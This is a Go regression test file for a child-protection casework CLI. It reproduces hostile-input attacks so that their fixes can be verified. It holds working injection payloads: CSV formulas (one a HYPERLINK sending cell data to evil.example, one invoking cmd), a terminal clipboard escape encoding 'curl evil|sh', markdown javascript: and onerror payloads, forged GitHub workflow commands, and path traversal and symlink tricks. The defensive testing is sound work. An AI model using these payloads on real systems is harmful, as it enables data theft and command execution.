package root

// The attacks of issue 15 ("hostile case files"), one test per row of its table, run end to end
// through Main: whoever can write a case file, a policy file or a folder name is the attacker.
// docs/security.md lists each beside its defence. Every test here failed before its fix.

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cpcase/cpcase/internal/iostreams"
)

var asOfNov = func() time.Time { return time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC) }

// edited copies the example case name and replaces, in each file, old by new (once each).
func edited(t *testing.T, name string, edits ...[3]string) string {
	t.Helper()
	dir := exampleCopy(t, name)
	for _, e := range edits {
		p := filepath.Join(dir, e[0])
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Contains(data, []byte(e[1])) {
			t.Fatalf("%s has no %q", e[0], e[1])
		}
		writeFile(t, p, bytes.Replace(data, []byte(e[1]), []byte(e[2]), 1))
	}
	return dir
}

func run15(t *testing.T, args ...string) (string, string, int) {
	t.Helper()
	return cpcaseAt(t, asOfNov, args...)
}

// Row 1: CSV formulas in due and stats CSV, which performance teams open in Excel.
func TestAttackCSVFormulas(t *testing.T) {
	dir := edited(t, "s9-three-children",
		[3]string{"plan.yaml", "case: EX-S9-0001", `case: '=HYPERLINK("http://evil.example/?"&A1,"click")'`},
		[3]string{"plan.yaml", "team: Team North (example)", `team: "+cmd|' /C calc'!A0"`},
		[3]string{"members.yaml", "name: Owen", `name: "@SUM(1+1)*cmd|' /C calc'!A0"`},
	)
	for _, args := range [][]string{
		{"due", "--all", "--format", "csv", dir},
		{"stats", "--from", "2026-01-01", "--to", "2026-11-23", "--by", "team", "--format", "csv", dir},
		{"stats", "--from", "2026-01-01", "--to", "2026-11-23", "--by", "worker", "--format", "csv", dir},
	} {
		out, errOut, code := run15(t, append(args, "--as-of", "2026-11-23")...)
		if code > 1 {
			t.Fatalf("%v: exit %d: %s", args, code, errOut)
		}
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(rows) < 2 {
			t.Fatalf("%v: %d rows, %v", args, len(rows), err)
		}
		number := regexp.MustCompile(`^[-+]?[0-9]+(\.[0-9]+)?$`)
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !number.MatchString(cell) {
					t.Errorf("%v: cell %q would run as a formula", args[:2], cell)
				}
			}
		}
		if args[0] == "due" && !strings.Contains(out, `'=HYPERLINK(`) {
			t.Errorf("due csv lost the case reference instead of quoting it:\n%s", out)
		}
	}
}

// hostileName is a child's name that would act on a terminal: OSC 52 (write the clipboard),
// OSC 8 (a hidden link), erase the line, a carriage return that overwrites it, and U+202E.
const hostileName = "Sky\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\\x1b[2K\rALL CLEAR \u202eEUDREVO"

// controls reports the first control a terminal would obey in s (newlines aside), or "".
func controls(s string) string {
	for _, r := range s {
		switch {
		case r == '\n':
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			return fmt.Sprintf("%U", r)
		}
	}
	return ""
}

// Row 2: terminal escapes in a name pass check and were printed byte for byte by due, check,
// stats and policy show/list.
func TestAttackTerminalEscapes(t *testing.T) {
	tree := t.TempDir()
	dir := edited(t, "s9-three-children",
		[3]string{"plan.yaml", "name: Tia", "name: " + yamlQuote(hostileName)},
		[3]string{"members.yaml", "name: Owen", "name: " + yamlQuote("Owen"+hostileName)},
		[3]string{"meetings.yaml", "chair: tm1", "chair: " + yamlQuote(hostileName)},
	)
	os.Rename(dir, filepath.Join(tree, "c"))
	dir = filepath.Join(tree, "c")
	pol := filepath.Join(tree, "policies")
	os.Mkdir(pol, 0o755)
	data, _ := os.ReadFile(filepath.Join("..", "..", "..", "policies", "core-groups-s9.yaml"))
	data = regexp.MustCompile(`(?m)^title: .*$`).ReplaceAll(data, []byte("title: "+yamlQuote("S9 "+hostileName)))
	writeFile(t, filepath.Join(pol, "evil.yaml"), data)
	t.Chdir(tree)
	for _, args := range [][]string{
		{"check", "c"},
		{"check", "--policy", "c"},
		{"due", "--all", "c"},
		{"due", "--all", "--redact", "c"},
		{"stats", "--from", "2026-01-01", "--to", "2026-11-23", "--by", "worker", "c"},
		{"policy", "show", "evil"},
		{"policy", "list"},
		{"policy", "lint", "policies/evil.yaml"},
	} {
		out, errOut, _ := run15(t, append(args, "--as-of", "2026-11-23")...)
		if args[0] == "policy" {
			out, errOut, _ = run15(t, args...)
		}
		if c := controls(out + errOut); c != "" {
			t.Errorf("%v prints %s from a case file:\n%q", args, c, out+errOut)
		}
	}
	// check still reports the name, shown rather than obeyed
	out, _, _ := run15(t, "check", "c", "--as-of", "2026-11-23")
	if !strings.Contains(out, `Sky\x1b]52;c;`) {
		t.Errorf("check does not show the escape:\n%s", out)
	}
	// and says where the control characters are
	if !strings.Contains(out, "plan.yaml:12:11: warning: name holds the control character U+001B") {
		t.Errorf("check does not warn of the control characters:\n%s", out)
	}
}

func yamlQuote(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f || r >= 0x2000 && r <= 0x206f:
			fmt.Fprintf(&b, `\u%04x`, r)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// Row 3: a newline in a folder name, in the "could not be read" list of report --format
// markdown, became a heading, a javascript: link and raw <img onerror>.
func TestAttackMarkdownFolderName(t *testing.T) {
	tree := t.TempDir()
	good := exampleCopy(t, "s9-three-children")
	os.Rename(good, filepath.Join(tree, "good"))
	bad := filepath.Join(tree, "x`\n# Pwned\n[click](javascript:alert(1)) <img src=x onerror=alert(1)>\n")
	if err := os.Mkdir(bad, 0o755); err != nil {
		t.Skip("this file system refuses the name:", err)
	}
	writeFile(t, filepath.Join(bad, "plan.yaml"), []byte("case: [\n"))
	out, errOut, _ := run15(t, "report", "--format", "markdown", "-o", "-", "--as-of", "2026-11-23", tree)
	if !strings.Contains(out, "could not be read") {
		t.Fatalf("the broken folder is not listed:\n%s%s", out, errOut)
	}
	// Each must be escaped (a backslash before it), or it starts a link, an image or HTML.
	for _, bad := range []*regexp.Regexp{regexp.MustCompile(`\n# Pwned`), regexp.MustCompile(`[^\\]\]\(javascript:`), regexp.MustCompile(`[^\\]<img`), regexp.MustCompile(`\n\[click`)} {
		if bad.MatchString(out) {
			t.Errorf("markdown carries %v from a folder name:\n%s", bad, out)
		}
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "#") && !regexp.MustCompile(`^(# Core group caseload|## |### )`).MatchString(line) {
			t.Errorf("a heading from data: %q", line)
		}
	}
}

// workflowCommand matches a line the GitHub runner would run as a command.
var workflowCommand = regexp.MustCompile(`^[\s\p{Zs}]*::|##\[`)

// Row 4: in a GitHub job, the text printed after the annotations showed a raw file name, and a
// folder name could forge ::error lines or send ::stop-commands::.
func TestAttackGitHubWorkflowCommands(t *testing.T) {
	t.Setenv("GITHUB_ACTIONS", "true")
	tree := t.TempDir()
	forged := filepath.Join(tree, "::error file=plan.yaml::forged")
	os.Mkdir(forged, 0o755)
	writeFile(t, filepath.Join(forged, "plan.yaml"), []byte("case: X-1\nbogus: 1\n"))
	stop := filepath.Join(tree, "::stop-commands::tok")
	os.Mkdir(stop, 0o755)
	writeFile(t, filepath.Join(stop, "plan.yaml"), []byte("case: X-2\nbogus: ##[error]old style\n"))
	// a policy whose required plan sections hold a line break and a command
	s9, _ := os.ReadFile(filepath.Join("..", "..", "..", "policies", "core-groups-s9.yaml"))
	s9 = regexp.MustCompile(`sections: \[[^\]]*\]`).ReplaceAll(s9, []byte(`sections: ["needs", "x\n::stop-commands::tok2", "##[error]y"]`))
	writeFile(t, filepath.Join(tree, "sections.yaml"), s9)
	os.Rename(exampleCopy(t, "s9-three-children"), filepath.Join(tree, "s9"))
	polFile := filepath.Join(tree, "::warning::forged.yaml")
	writeFile(t, polFile, []byte("id: x\ntitle: x\njurisdiction: england\nrules: []\nbogus: 1\n"))
	t.Chdir(tree)
	for _, args := range [][]string{
		{"check", "."},
		{"check", "--policy=core-groups-s9", "."},
		{"check", "--policy=sections.yaml", "--as-of", "2026-11-23", "s9"},
		{"due", "."},
		{"policy", "lint", "--format", "github", "::warning::forged.yaml"},
		{"policy", "lint", "::warning::forged.yaml"},
	} {
		out, errOut, _ := run15(t, args...)
		annotations := 0
		for _, line := range strings.Split(out+errOut, "\n") {
			if !workflowCommand.MatchString(line) {
				continue
			}
			// cpcase's own annotations, and only those, may be commands: every value escaped
			if regexp.MustCompile(`^::(error|warning) file=[^:,]*,line=\d+,col=\d+::`).MatchString(line) && !strings.Contains(line, "##[") {
				annotations++
				continue
			}
			t.Errorf("%v: a line from data would run as a workflow command: %q", args, line)
		}
		if args[0] == "policy" && args[2] == "--format" && annotations == 0 {
			t.Errorf("%v: no annotations:\n%s", args, out)
		}
	}
}

// Row 5: redaction leaks.
func TestAttackRedaction(t *testing.T) {
	t.Run("add --by a name, in its error", func(t *testing.T) {
		dir := exampleCopy(t, "s9-three-children")
		out, errOut, code := run15(t, "add", "visit", dir, "--redact", "--by", "Sam Okafor", "--kind", "home")
		if code == 0 || strings.Contains(out+errOut, "Sam") || strings.Contains(out+errOut, "Okafor") {
			t.Errorf("exit %d:\n%s%s", code, out, errOut)
		}
	})
	t.Run("add --dry-run, its context lines", func(t *testing.T) {
		dir := exampleCopy(t, "s9-three-children")
		plan := filepath.Join(dir, "plan.yaml")
		data, _ := os.ReadFile(plan)
		// the children last in plan.yaml, so that an escalation's context lines show them
		s := regexp.MustCompile(`(?m)^# yaml-language-server.*\n`).ReplaceAllString(string(data), "")
		i, j := strings.Index(s, "children:\n"), strings.Index(s, "conferences:\n")
		s = s[:i] + s[j:] + s[i:j]
		writeFile(t, plan, []byte(s))
		out, errOut, code := run15(t, "add", "escalation", dir, "--redact", "--dry-run", "--date", "2026-11-20", "--reason", "no-access", "--to", "tm1")
		if code != 0 {
			t.Fatalf("exit %d:\n%s%s", code, out, errOut)
		}
		for _, name := range []string{"Tia", "Leo", "Remy"} {
			if regexp.MustCompile(`\b` + name + `\b`).MatchString(out) {
				t.Errorf("the diff names %s:\n%s", name, out)
			}
		}
		if !strings.Contains(out, "name: T.~") {
			t.Errorf("the diff shows no redacted context:\n%s", out)
		}
	})
	t.Run("check, a name in another letter case", func(t *testing.T) {
		dir := edited(t, "s9-three-children", [3]string{"meetings.yaml", "chair: tm1", "chair: OWEN"},
			[3]string{"visits.yaml", "seen: [t, l, r]", "seen: [TIA, l, r]"})
		out, errOut, _ := run15(t, "check", "--redact", dir, "--as-of", "2026-11-23")
		if regexp.MustCompile(`(?i)\b(owen|tia)\b`).MatchString(out + errOut) {
			t.Errorf("names in another case survive --redact:\n%s%s", out, errOut)
		}
	})
	t.Run("stats --redact keeps people who share initials apart; CSV names no one", func(t *testing.T) {
		tree := t.TempDir()
		for i, name := range []string{"Sam Okafor", "Sara Osei"} {
			dir := edited(t, "s9-three-children", [3]string{"members.yaml", "name: Owen", "name: " + name},
				[3]string{"plan.yaml", "case: EX-S9-0001", fmt.Sprintf("case: EX-S9-000%d", i+2)})
			os.Rename(dir, filepath.Join(tree, fmt.Sprint(i)))
		}
		for _, redact := range []bool{true, false} {
			args := []string{"stats", "--from", "2026-01-01", "--to", "2026-11-23", "--by", "worker", "--format", "csv", "--as-of", "2026-11-23", tree}
			if redact {
				args = append(args, "--redact")
			}
			out, _, _ := run15(t, args...)
			groups := map[string]bool{}
			rows, _ := csv.NewReader(strings.NewReader(out)).ReadAll()
			for _, r := range rows[1:] {
				groups[r[0]] = true
			}
			if len(groups) != 2 || strings.Contains(out, "Okafor") || strings.Contains(out, "Osei") {
				t.Errorf("redact %v: %d workers (want 2, no names):\n%s", redact, len(groups), out)
			}
		}
	})
}

// Row 6: two add visit on one case at the same time both said "added" and one visit was lost
// (58 of 400 pairs). 100 pairs here, each two adds at once: none lost, none failed.
func TestAttackLostUpdate(t *testing.T) {
	dir := exampleCopy(t, "s9-three-children")
	visits := filepath.Join(dir, "visits.yaml")
	before, _ := os.ReadFile(visits)
	n0 := bytes.Count(before, []byte("- {date:")) + bytes.Count(before, []byte("- date:"))
	var mu sync.Mutex
	var failures []string
	for p := range 100 {
		var wg sync.WaitGroup
		start := make(chan struct{})
		for k := range 2 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				<-start
				day := fmt.Sprintf("2026-%02d-%02d", 1+(2*p+k)/28%12, 1+(2*p+k)%28)
				if _, e, code := cpcaseAt(t, asOfNov, "add", "visit", dir, "--date", day, "--by", "sw1", "--kind", "office"); code != 0 {
					mu.Lock()
					failures = append(failures, e)
					mu.Unlock()
				}
			}()
		}
		close(start)
		wg.Wait()
	}
	after, _ := os.ReadFile(visits)
	n := bytes.Count(after, []byte("- {date:")) + bytes.Count(after, []byte("- date:"))
	if n-n0 != 200 || len(failures) > 0 {
		t.Errorf("%d of 200 visits in the file, %d adds failed (%v)", n-n0, len(failures), failures[:min(1, len(failures))])
	}
}

// Row 9: add read the whole file before the size limit: a 4 GiB visits.yaml cost 4.2 GB.
func TestAttackAddMemory(t *testing.T) {
	dir := exampleCopy(t, "s9-three-children")
	visits := filepath.Join(dir, "visits.yaml")
	if err := os.Truncate(visits, 4<<30); err != nil {
		t.Skip("no sparse files:", err)
	}
	var out, errOut string
	var code int
	alloc := allocated(func() {
		out, errOut, code = run15(t, "add", "visit", dir, "--by", "sw1", "--kind", "office")
	})
	if code != ExitUsage || !strings.Contains(errOut, "too large") || alloc > 16*mib {
		t.Errorf("exit %d, %d MiB allocated:\n%s%s", code, alloc/mib, out, errOut)
	}
}

// Row 12: add wrote through a symlinked visits.yaml to a file outside the case; schema --write
// overwrote a link's target.
func TestAttackSymlinks(t *testing.T) {
	outside := filepath.Join(t.TempDir(), "keep.yaml")
	writeFile(t, outside, []byte("visits:\n"))
	dir := exampleCopy(t, "s9-three-children")
	visits := filepath.Join(dir, "visits.yaml")
	os.Remove(visits)
	os.Symlink(outside, visits)
	out, errOut, code := run15(t, "add", "visit", dir, "--by", "sw1", "--kind", "office")
	if got, _ := os.ReadFile(outside); code == 0 || string(got) != "visits:\n" || !strings.Contains(errOut, "symbolic link") {
		t.Errorf("add: exit %d, outside file %q:\n%s%s", code, got, out, errOut)
	}
	// nor shows it in a dry run, nor does check read it
	writeFile(t, outside, []byte("visits:\n  - {date: 2026-01-05, by: sw1, kind: office, note: hunter2}\nsecret_key: hunter2\n"))
	out, errOut, _ = run15(t, "add", "visit", dir, "--by", "sw1", "--kind", "office", "--dry-run")
	out2, errOut2, _ := run15(t, "check", dir, "--as-of", "2026-11-23")
	if strings.Contains(out+errOut+out2+errOut2, "hunter2") || strings.Contains(out2+errOut2, "secret_key") {
		t.Errorf("a file outside the case was read through a link:\n%s%s%s%s", out, errOut, out2, errOut2)
	}
	schemas := t.TempDir()
	target := filepath.Join(t.TempDir(), "precious")
	writeFile(t, target, []byte("precious"))
	run15(t, "schema", "--write", schemas) // the names schema writes
	names, _ := filepath.Glob(filepath.Join(schemas, "*"))
	if len(names) == 0 {
		t.Fatal("schema --write wrote nothing")
	}
	os.Remove(names[0])
	os.Symlink(target, names[0])
	_, errOut, code = run15(t, "schema", "--write", schemas)
	if got, _ := os.ReadFile(target); code == 0 || string(got) != "precious" || !strings.Contains(errOut, "symbolic link") {
		t.Errorf("schema --write: exit %d, target %q: %s", code, got, errOut)
	}
}

// Row 13: policy: ../../../etc/passwd or an absolute path was read, and findings quoted its
// first bytes, with --redact on.
func TestAttackPolicyPath(t *testing.T) {
	tree := t.TempDir()
	secret := filepath.Join(t.TempDir(), "secret.yaml")
	writeFile(t, secret, []byte("root:x:0:0:root:/root:/bin/bash\ntoken: ghp_SECRETSECRETSECRET\n"))
	rel, _ := filepath.Rel(filepath.Join(tree, "c"), secret)
	for _, ref := range []string{rel, secret, "../../../../../../../../../../" + strings.TrimPrefix(secret, "/")} {
		dir := edited(t, "s9-three-children", [3]string{"plan.yaml", "policy: core-groups-s9", "policy: " + ref})
		os.RemoveAll(filepath.Join(tree, "c"))
		os.Rename(dir, filepath.Join(tree, "c"))
		out, errOut, code := run15(t, "check", "--policy", "--redact", tree, "--as-of", "2026-11-23")
		if code != ExitFindings || strings.Contains(out+errOut, "root:x") || strings.Contains(out+errOut, "ghp_") || !strings.Contains(out, "--policy") {
			t.Errorf("policy: %s: exit %d\n%s%s", ref, code, out, errOut)
		}
	}
	// From the command line the file is read, and reported (as no YAML, or as not a policy)
	// without a byte of it quoted.
	out, errOut, _ := run15(t, "check", "--policy="+secret, tree, "--as-of", "2026-11-23")
	if strings.Contains(out+errOut, "root:x") || strings.Contains(out+errOut, "ghp_") || !strings.Contains(out+errOut, secret) {
		t.Errorf("--policy FILE:\n%s%s", out, errOut)
	}
	writeFile(t, secret, []byte("token: ghp_SECRETSECRETSECRET\npassword: hunter2\n"))
	out, errOut, _ = run15(t, "check", "--policy="+secret, tree, "--as-of", "2026-11-23")
	if strings.Contains(out+errOut, "ghp_") || strings.Contains(out+errOut, "hunter2") || !strings.Contains(out+errOut, "not a policy file") {
		t.Errorf("--policy FILE, YAML but no policy:\n%s%s", out, errOut)
	}
}

// The layout cpcase init makes, a local policy in ./policies named by path from a case, still
// works when only the cases folder is checked.
func TestPolicyPathInLocalPolicies(t *testing.T) {
	repo := t.TempDir()
	os.MkdirAll(filepath.Join(repo, "policies"), 0o755)
	data, _ := os.ReadFile(filepath.Join("..", "..", "..", "policies", "core-groups-s9.yaml"))
	writeFile(t, filepath.Join(repo, "policies", "local.yaml"), data)
	dir := edited(t, "s9-three-children", [3]string{"plan.yaml", "policy: core-groups-s9", "policy: ../../policies/local.yaml"})
	os.MkdirAll(filepath.Join(repo, "cases"), 0o755)
	os.Rename(dir, filepath.Join(repo, "cases", "c"))
	t.Chdir(repo)
	out, errOut, code := run15(t, "due", "cases", "--as-of", "2026-11-23")
	if code != 0 || !strings.Contains(out, "EX-S9-0001") {
		t.Errorf("exit %d:\n%s%s", code, out, errOut)
	}
}

// Row 14: free text in role and plan section names was stored in the cache verbatim.
func TestAttackCacheFreeText(t *testing.T) {
	root := t.TempDir()
	copyExamples(t, root, func(rel string, data []byte) []byte {
		switch rel {
		case filepath.Join("s9-three-children", "members.yaml"):
			return bytes.Replace(data, []byte("role: parent"), []byte("role: Dana's sister Mrs Okafor"), 1)
		case filepath.Join("s9-three-children", "plan.yaml"):
			return bytes.Replace(data, []byte("    needs: >-"), []byte("    Okafor family home safety: >-"), 1)
		}
		return data
	})
	cacheDir := filepath.Join(t.TempDir(), "cache")
	t.Chdir(root)
	plain, _, _ := run15(t, "due", "examples", "--as-of", "2026-11-23")
	for range 2 {
		if out, _, _ := run15(t, "due", "examples", "--as-of", "2026-11-23", "--cache", cacheDir); out != plain {
			t.Errorf("due --cache differs from due")
		}
	}
	filepath.WalkDir(cacheDir, func(p string, d os.DirEntry, err error) error {
		if d != nil && !d.IsDir() {
			if data, _ := os.ReadFile(p); bytes.Contains(data, []byte("Okafor")) {
				t.Errorf("%s holds free text from a role or a section name", p)
			}
		}
		return nil
	})
}

// The streams: stderr always neutralised; stdout on a terminal, colour kept; in a GitHub job both,
// unless to a file.
func TestNeutraliseStreams(t *testing.T) {
	line := "\x1b[31mOVERDUE\x1b[0m " + hostileName + "\n::error::forged\n"
	t.Run("terminal", func(t *testing.T) {
		ios, _, out, errOut := iostreams.Test()
		ios.SetStdoutTTY(true)
		flush := neutralise(ios, false)
		fmt.Fprint(ios.Out, line)
		fmt.Fprint(ios.ErrOut, line)
		flush()
		if !strings.HasPrefix(out.String(), "\x1b[31mOVERDUE\x1b[0m Sky\\x1b]52") || controls(strings.NewReplacer("\x1b[31m", "", "\x1b[0m", "").Replace(out.String())) != "" {
			t.Errorf("stdout on a terminal: %q", out.String())
		}
		if c := controls(errOut.String()); c != "" {
			t.Errorf("stderr holds %s: %q", c, errOut.String())
		}
		if ios.Out != out {
			t.Error("the streams were not restored")
		}
	})
	t.Run("not a terminal", func(t *testing.T) {
		ios, _, out, _ := iostreams.Test()
		flush := neutralise(ios, false)
		fmt.Fprint(ios.Out, line)
		flush()
		if out.String() != line {
			t.Errorf("stdout to a pipe was changed (machine formats keep their bytes): %q", out.String())
		}
	})
	t.Run("github", func(t *testing.T) {
		ios, _, out, errOut := iostreams.Test()
		flush := neutralise(ios, true)
		fmt.Fprint(ios.Out, line)
		fmt.Fprint(ios.ErrOut, line)
		flush()
		for _, s := range []string{out.String(), errOut.String()} {
			if strings.Contains(s, "\n::error") || controls(s) != "" {
				t.Errorf("github: %q", s)
			}
		}
		f, err := os.Create(filepath.Join(t.TempDir(), "out.csv"))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		ios = iostreams.New(strings.NewReader(""), f, &bytes.Buffer{})
		flush = neutralise(ios, true)
		fmt.Fprint(ios.Out, line)
		flush()
		if data, _ := os.ReadFile(f.Name()); string(data) != line {
			t.Errorf("github, stdout to a file was changed: %q", data)
		}
	})
}

// Row 10: the did-you-mean for unknown ids was quadratic: a 0.5 MB members.yaml and a 0.9 MB
// meetings.yaml, within every limit, took about 26 minutes to check. Now every unknown id is
// reported and at most 50 get a hint (BenchmarkUnknownIDHints in internal/load/casefolder holds
// the time under 2 s).
func TestAttackQuadraticHints(t *testing.T) {
	dir := exampleCopy(t, "s9-three-children")
	var m, mt strings.Builder
	m.WriteString("members:\n")
	const members = 12000
	for i := range members {
		fmt.Fprintf(&m, "  - {id: w%06d, name: Worker, role: teacher}\n", i)
	}
	mt.WriteString("meetings:\n")
	for i := 0; mt.Len() < 900_000; i++ {
		mt.WriteString("  - date: 2026-07-01\n    kind: core-group\n    present: [")
		for j := range 40 {
			if j > 0 {
				mt.WriteString(", ")
			}
			fmt.Fprintf(&mt, "x%06d", (i*40+j)%members)
		}
		mt.WriteString("]\n")
	}
	writeFile(t, filepath.Join(dir, "members.yaml"), []byte(m.String()))
	writeFile(t, filepath.Join(dir, "meetings.yaml"), []byte(mt.String()))
	out, errOut, code := run15(t, "check", dir, "--as-of", "2026-11-23")
	unknown, hinted := strings.Count(out, "unknown member"), strings.Count(out, "did you mean")
	if code != ExitFindings || unknown < 80_000 || hinted == 0 || hinted > 50 {
		t.Errorf("exit %d, %d unknown members, %d hints: %s", code, unknown, hinted, errOut)
	}
}
